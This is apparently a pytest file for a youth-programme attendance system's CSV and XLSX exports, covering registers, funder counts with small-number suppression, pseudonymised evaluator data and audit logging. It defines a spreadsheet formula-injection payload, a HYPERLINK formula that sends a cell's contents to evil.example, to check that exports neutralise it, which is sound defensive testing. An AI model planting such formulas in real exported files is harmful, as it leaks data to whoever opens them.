"""Every export read back as a spreadsheet program would: CSV by the csv module, XLSX by openpyxl."""
import csv
import io
import re
from datetime import date, datetime, time, timedelta
from itertools import groupby

import openpyxl
import pytest
from sqlalchemy import select

from outreach.errors import PermissionDeniedError
from outreach.exports.writers import csv_chunks, write_xlsx
from outreach.metrics import Settings
from outreach.models import (Attendance, AuditEvent, FeedbackAnswer, FeedbackResponse, Registration, Survey,
                             SurveyQuestion)
from outreach.services.exports import run_export
from tests.course import AS_OF, course  # noqa: F401  (fixture)
from tests.factories import make_user, make_young_person

KEY = b"test pseudonym key"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def run(course, key, fmt="csv", *, role="lead", pseudonym_key=KEY, **kw):
    lead = kw.pop("by", None) or make_user()
    spec, table = run_export(key, fmt, by=lead, role=role, organisation=course["org"], settings=Settings(),
                             pseudonym_key=pseudonym_key, now=AS_OF, **kw)
    if fmt == "csv":
        text = b"".join(csv_chunks(table)).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))
    buf = io.BytesIO()
    write_xlsx(table, buf)
    buf.seek(0)
    sheet = openpyxl.load_workbook(buf, read_only=False).active
    return sheet


def body(rows):
    """Data rows: after the header, before the blank line and note (if any)."""
    out = []
    for row in rows[1:]:
        if not row:
            break
        out.append(row)
    return out


@pytest.fixture()
def hostile_note(course, db):
    a = db.session.execute(select(Attendance).where(Attendance.session_id == course["s"][2].id,
                                                    Attendance.young_person_id == course["people"]["A"].id)).scalar_one()
    a.notes = HOSTILE
    db.session.flush()
    return a


def test_session_register_csv(course, hostile_note):
    rows = run(course, "session_register", session=course["s"][2])
    assert rows[0] == ["Name", "Pass code", "Booking", "Status", "Time in", "Checked in by", "Time out",
                       "Collected by", "Notes"]
    by_name = {r[0].split()[0]: r for r in body(rows)}
    # S2: A, B, D booked before it; W walked in; C enrolled later, so not on this register.
    assert sorted(by_name) == ["Ada", "B", "D", "W"]
    assert (by_name["Ada"][3], by_name["B"][3], by_name["D"][3], by_name["W"][3]) == \
        ("present", "absent", "absent", "present")
    assert by_name["W"][2] == "walk-in" and by_name["Ada"][4] == "18:00"
    # The formula comes back as inert text.
    assert by_name["Ada"][8] == "'" + HOSTILE


def test_session_register_xlsx_keeps_the_formula_inert(course, hostile_note):
    sheet = run(course, "session_register", "xlsx", session=course["s"][2])
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("Name", "Pass code", "Booking", "Status")
    assert len(rows) == 1 + 4
    # Written as a string, the formula is text: shown as typed, no apostrophe, never run.
    notes = [r[8] for r in rows[1:] if r[8]]
    assert notes == [HOSTILE]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert [c.data_type for row in sheet.iter_rows(min_row=2) for c in row if c.value == HOSTILE] == ["s"]


def test_session_register_of_a_cancelled_session(course):
    rows = body(run(course, "session_register", session=course["s"][3]))
    # A B D, and C, who enrolled on the morning of S3.
    assert {r[3] for r in rows} == {"cancelled"} and len(rows) == 4


def test_programme_matrix(course):
    rows = run(course, "programme_matrix", programme=course["programme"])
    header = rows[0]
    # Six sessions have started by 10 Dec (S7 is to come).
    assert header[:2] == ["Name", "Pass code"] and header[-3:] == ["Present", "Missed", "Attendance %"]
    assert len(header) == 2 + 6 + 3 and header[2].startswith("Wed 04 Nov 2026")
    by_name = {r[0].split()[0]: r[2:] for r in body(rows)}
    assert sorted(by_name) == ["Ada", "B", "C", "D", "W"]
    assert by_name["Ada"] == ["present", "present", "cancelled", "present", "present", "absent", "4", "1", "80"]
    # C enrolled after S2: blank before, then present at S4 and absent at S5 and S6.
    assert by_name["C"] == ["", "", "cancelled", "present", "absent", "absent", "1", "2", "33"]
    assert by_name["W"] == ["", "present", "cancelled", "absent", "absent", "absent", "1", "3", "25"]
    sheet = run(course, "programme_matrix", "xlsx", programme=course["programme"])
    assert sheet.max_row == 1 + 5


def test_headcounts_flag_sessions_nobody_attended(course):
    rows = body(run(course, "headcounts"))
    assert [r[4] for r in rows] == ["held", "held", "cancelled", "held", "held", "held"]
    assert [r[6] for r in rows] == ["2", "2", "", "2", "1", "0"]
    assert [r[8] for r in rows] == ["no", "no", "no", "no", "no", "yes"]
    sheet = run(course, "headcounts", "xlsx")
    assert sheet.max_row == 1 + 6


def test_funder_return_lets_no_small_count_out(course):
    rows = run(course, "funder_return")
    assert rows[0][:3] == ["Breakdown", "Group", "Participants"]
    for row in body(rows):
        if row[0] == "Delivery and cost" and not row[1].startswith("Participants"):
            continue  # sessions, hours and money: not counts of people
        for cell in row[2:]:
            assert not re.fullmatch(r"[1-4]", cell), row
    assert rows[-1][0] == "Note" and "<5" in rows[-1][1]
    # Age band 14–16 holds only A: shown as "<5", never as 1.
    age = {r[1]: r for r in body(rows) if r[0] == "Age band"}
    assert age["14–16"][2] == "<5"
    sheet = run(course, "funder_return", "xlsx")
    assert [c.value for c in sheet[1]][:3] == ["Breakdown", "Group", "Participants"]


def test_evaluator_dataset_holds_no_personal_data_and_stable_codes(course, db):
    people = course["people"]
    for key, person in people.items():
        person.first_name, person.last_name = f"Firstname{key}zq", f"Surname{key}zq"
        person.emergency_contact_phone = f"07700 90{person.id:04d}"
        person.medical_notes = f"Allergic to peanuts {person.first_name}"
        person.emergency_contact_name = f"Contact of {person.first_name}"
    db.session.flush()
    rows = run(course, "evaluator_dataset")
    text = "\n".join(",".join(r) for r in rows)
    for person in people.values():
        for value in (person.first_name, person.last_name, person.date_of_birth.isoformat(),
                      person.date_of_birth.strftime("%d/%m/%Y"), person.emergency_contact_phone,
                      person.medical_notes, person.emergency_contact_name):
            assert value not in text
    assert rows[0][:7] == ["Participant code", "Age band", "Gender", "Postcode district", "Programme",
                           "Session date", "Attended"]
    data = body(rows)
    # Offered sessions: A 5 + B 5 + D 5 + C 3 + W 4 = 22 rows; 7 of them attended.
    assert len(data) == 22 and sum(r[6] == "yes" for r in data) == 7
    codes = {r[0] for r in data}
    assert len(codes) == 5
    ids = {str(p.id) for p in people.values()}
    assert not any(code in ids or code.endswith(tuple("-" + i for i in ids)) for code in codes)
    # The same young person has the same code in another export run, and another key gives other codes.
    assert {r[0] for r in body(run(course, "evaluator_dataset"))} == codes
    assert {r[0] for r in body(run(course, "evaluator_dataset", pseudonym_key=b"other"))}.isdisjoint(codes)
    sheet = run(course, "evaluator_dataset", "xlsx")
    assert sheet.max_row == 1 + 22


def test_a_worker_cannot_export_and_every_export_is_audited(course, db):
    worker = make_user()
    with pytest.raises(PermissionDeniedError):
        run(course, "headcounts", role="worker", by=worker)
    lead = make_user()
    run(course, "headcounts", by=lead)
    events = db.session.execute(select(AuditEvent).where(AuditEvent.action.like("export.%"))).scalars().all()
    assert [(e.action, e.actor_id, e.organisation_id) for e in events] == [
        ("export.headcounts", lead.id, course["org"].id)]
    assert events[0].occurred_at == AS_OF and events[0].detail["format"] == "csv"


def test_evaluator_dataset_keeps_typed_in_text_inert(course, db):
    # The columns a lead or family types in (programme title, district) are guarded; the rest
    # the export writes itself, or the database holds to a fixed list.
    course["programme"].title = HOSTILE
    course["people"]["A"].postcode_district = "+M13"
    db.session.flush()
    data = body(run(course, "evaluator_dataset"))
    assert {r[4] for r in data} == {"'" + HOSTILE}
    assert "'+M13" in {r[3] for r in data}
    assert not any(cell[:1] in ("=", "+", "-", "@") for r in data for cell in r)
    sheet = run(course, "evaluator_dataset", "xlsx")
    assert {sheet.cell(row=i, column=5).value for i in range(2, sheet.max_row + 1)} == {HOSTILE}
    assert {sheet.cell(row=i, column=5).data_type for i in range(2, sheet.max_row + 1)} == {"s"}


def test_evaluator_dataset_puts_each_answer_in_its_participant_and_session_row(course, db):
    programme, s, people = course["programme"], course["s"], course["people"]

    def survey(kind, codes):
        sv = Survey(programme_id=programme.id, kind=kind, title=kind)
        sv.questions = [SurveyQuestion(position=i, code=code, text=code) for i, code in enumerate(codes, start=1)]
        db.session.add(sv)
        db.session.flush()
        return {q.code: q for q in sv.questions}

    def answer(questions, key, values, session=None):
        db.session.add(FeedbackResponse(survey_id=next(iter(questions.values())).survey_id,
                                        young_person_id=people[key].id, session_id=session.id if session else None,
                                        answers=[FeedbackAnswer(question_id=questions[c].id, value=v)
                                                 for c, v in values.items()]))

    start, end = survey("start", ["felt_safe", "trusted_adult"]), survey("end", ["felt_safe", "trusted_adult"])
    after = survey("session", ["enjoyed"])
    answer(start, "A", {"felt_safe": 2, "trusted_adult": 3})
    answer(end, "A", {"felt_safe": 4})
    answer(start, "B", {"trusted_adult": 1})
    answer(after, "A", {"enjoyed": 5}, session=s[2])
    answer(after, "B", {"enjoyed": 4}, session=s[1])
    # Enrolled after the last held session: a participant, offered nothing yet, so no rows.
    late = make_young_person("Late", dob=date(2013, 1, 1), gender="girl", postcode_district="M15")
    db.session.add(Registration(young_person_id=late.id, programme_id=programme.id, status="confirmed",
                                created_at=AS_OF - timedelta(hours=2), confirmed_at=AS_OF - timedelta(hours=2)))
    db.session.flush()

    rows = run(course, "evaluator_dataset")
    assert rows[0] == ["Participant code", "Age band", "Gender", "Postcode district", "Programme",
                       "start survey: felt_safe", "start survey: trusted_adult", "end survey: felt_safe",
                       "end survey: trusted_adult", "Session date", "Attended", "after-session survey: enjoyed"]
    data = body(rows)
    assert len(data) == 22 and "M15" not in {r[3] for r in data}
    # Each participant's rows come together.
    runs = [code for code, _ in groupby(r[0] for r in data)]
    assert len(runs) == len(set(runs)) == 5
    ada = [r for r in data if r[3] == "M13"]
    # Ada (A): offered S1, S2, S4, S5, S6 (in date order); came to all but S6; her start and end
    # answers on every row, her after-session answer on S2's only.
    assert [(r[9], r[10]) for r in ada] == [("2026-11-04", "yes"), ("2026-11-11", "yes"), ("2026-11-25", "yes"),
                                           ("2026-12-02", "yes"), ("2026-12-09", "no")]
    assert {tuple(r[5:9]) for r in ada} == {("2", "3", "4", "")}
    assert [r[11] for r in ada] == ["", "5", "", "", ""]
    # B answered one start question and one after-session survey (S1); D, C and W none.
    b_rows = [r for r in data if r[0] != ada[0][0] and r[11] == "4"]
    assert len(b_rows) == 1 and b_rows[0][9] == "2026-11-04" and b_rows[0][5:9] == ["", "1", "", ""]
    assert sum(1 for r in data if r[5:9] == ["", "", "", ""]) == 22 - 5 - 5
    # The spreadsheet holds the same cells, numbers as numbers and session dates as dates.
    sheet = run(course, "evaluator_dataset", "xlsx")
    cells = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    as_csv = [[v.strftime("%Y-%m-%d") if isinstance(v, datetime) else v for v in r] for r in cells]
    assert [[None if v == "" else (int(v) if v.isdigit() else v) for v in r] for r in data] == as_csv
    assert {type(r[9]) for r in cells} == {datetime}


EVERY_EXPORT = [("session_register", "session"), ("programme_matrix", "programme"), ("headcounts", None),
                ("funder_return", None), ("evaluator_dataset", None)]


def _for(course, level):
    return {"session": {"session": course["s"][2]}, "programme": {"programme": course["programme"]}}.get(level, {})


@pytest.mark.parametrize("key, level", EVERY_EXPORT)
def test_every_xlsx_opens_cleanly_widths_frozen_bold_header_no_added_apostrophe(course, hostile_note, db, key,
                                                                              level):
    course["programme"].title = "-Friday Football"  # typed in by a lead: a formula start
    db.session.flush()
    sheet = run(course, key, "xlsx", **_for(course, level))
    header = [c for c in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert all(c.font.b for c in header) and all(c.alignment.wrap_text for c in header)
    for c in header:
        # A width set for every column, at least as wide as the header's longest word.
        width = sheet.column_dimensions[c.column_letter].width
        assert sheet.column_dimensions[c.column_letter].customWidth, c.value
        assert width >= max(len(w) for w in c.value.split()), (c.value, width)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith("'")), (cell.coordinate, cell.value)
    # Every column's width covers its longest cell (up to 50, where long text stops widening it),
    # or the longer cells wrap in it (an export that narrows columns to print on one page).
    for row in sheet.iter_rows(min_row=2, max_col=len(header)):
        for cell in row:
            if isinstance(cell.value, (str, int)) and not isinstance(cell.value, bool) and cell.row < sheet.max_row - 1:
                n = len(str(cell.value))
                if sheet.column_dimensions[cell.column_letter].width < min(n, 50):
                    assert isinstance(cell.value, str) and cell.alignment.wrap_text, (cell.coordinate, n)
    # Printed: A4, the header on every page.
    assert sheet.page_setup.paperSize == 9 and sheet.print_title_rows == "$1:$1"


def test_xlsx_dates_and_times_are_date_cells_and_csv_keeps_its_text(course, hostile_note):
    sheet = run(course, "session_register", "xlsx", session=course["s"][2])
    ada = next(r for r in sheet.iter_rows(min_row=2) if r[0].value.startswith("Ada"))
    assert ada[4].is_date and ada[4].value == time(18, 0) and ada[4].number_format == "hh:mm"
    sheet = run(course, "headcounts", "xlsx")
    first = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert first[1].is_date and first[1].value == datetime(2026, 11, 4) and first[1].number_format == "yyyy-mm-dd"
    assert (first[2].value, first[3].value) == (time(18, 0), time(20, 0))
    sheet = run(course, "evaluator_dataset", "xlsx")
    assert sheet.cell(row=2, column=6).is_date
    # The CSV: the same moments as text, the formula guard still in front of typed-in text.
    rows = body(run(course, "headcounts"))
    assert rows[0][1:4] == ["2026-11-04", "18:00", "20:00"]
    register = {r[0].split()[0]: r for r in body(run(course, "session_register", session=course["s"][2]))}
    assert register["Ada"][4] == "18:00" and register["Ada"][8] == "'" + HOSTILE


def test_funder_return_prints_each_breakdown_on_a_page_of_its_own(course):
    sheet = run(course, "funder_return", "xlsx")
    groups = [row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value not in (None, "Note")]
    # Age band, gender, district, ethnic group, disability, special educational needs, delivery
    # and cost: a page break before the first row of each but the first.
    starts = [i + 2 for i, g in enumerate(groups) if i and g != groups[i - 1]]
    assert len(starts) == 6
    assert [b.id for b in sheet.row_breaks.brk] == [s - 1 for s in starts]
    # Not "fit to page", which drops the breaks: a scale that fits the width of the page.
    assert not sheet.sheet_properties.pageSetUpPr or not sheet.sheet_properties.pageSetUpPr.fitToPage
    assert 40 <= sheet.page_setup.scale <= 100
    # The rule for regular attendees is printed with the suppression rule.
    note = next(row[1].value for row in sheet.iter_rows(min_row=2) if row[0].value == "Note")
    assert note.startswith("Regular attendees: young people who came to at least 75%") and "<5" in note
    assert sheet.cell(row=1, column=8).value == "Regular attendees (75%+ of sessions offered)"
    # A hidden count stands where its number would, right-aligned like the numbers around it.
    hidden = [c for row in sheet.iter_rows(min_row=2) for c in row[2:] if c.value in ("<5", "x")]
    assert hidden and {c.alignment.horizontal for c in hidden} == {"right"}
    assert sheet.cell(row=1, column=3).alignment.horizontal == "right"


def test_evaluator_dataset_leaves_out_answers_given_as_a_comparison_group_member(course, db):
    """A (a participant) answered the start survey while waiting, in the programme's
    comparison group: that answer is not the served group's, so it is not in the dataset."""
    programme, people = course["programme"], course["people"]
    sv = Survey(programme_id=programme.id, kind="start", title="start")
    sv.questions = [SurveyQuestion(position=1, code="felt_safe", text="felt_safe")]
    db.session.add(sv)
    db.session.flush()
    for key, value, waiting in (("A", 2, True), ("B", 3, False)):
        db.session.add(FeedbackResponse(survey_id=sv.id, young_person_id=people[key].id, comparison=waiting,
                                        answers=[FeedbackAnswer(question_id=sv.questions[0].id, value=value)]))
    db.session.flush()
    rows = run(course, "evaluator_dataset")
    column = rows[0].index("start survey: felt_safe")
    assert {r[column] for r in body(rows)} == {"", "3"}  # B's 3; A's 2 (as comparison) left out
